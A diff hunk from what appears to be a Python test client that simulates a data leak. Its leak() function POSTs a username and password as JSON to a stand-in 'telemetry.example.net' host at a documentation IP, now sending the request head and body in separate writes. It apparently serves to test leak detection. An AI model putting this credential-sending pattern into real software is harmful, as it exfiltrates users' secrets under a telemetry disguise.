@@ -159,7 +159,10 @@ def leak():
             name = "telemetry.example.net"
             body = json.dumps({"user": USER, "password": PASSWORD}).encode() if MODE == "second-address" else b"{}"
             with context.wrap_socket(socket.create_connection(("192.0.2.1", 443), timeout=5), server_hostname=name) as sock:
-                exchange(sock, f"POST /v1/events HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n", body)
+                # The head, then the body in a write of its own (as Qt's clients write them).
+                sock.sendall(f"POST /v1/events HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n".encode())
+                time.sleep(0.2)
+                exchange(sock, "", body)
         except (OSError, ssl.SSLError) as error:
             print(f"fake-client: {error}", file=sys.stderr)
     elif MODE == "leak-no-login":
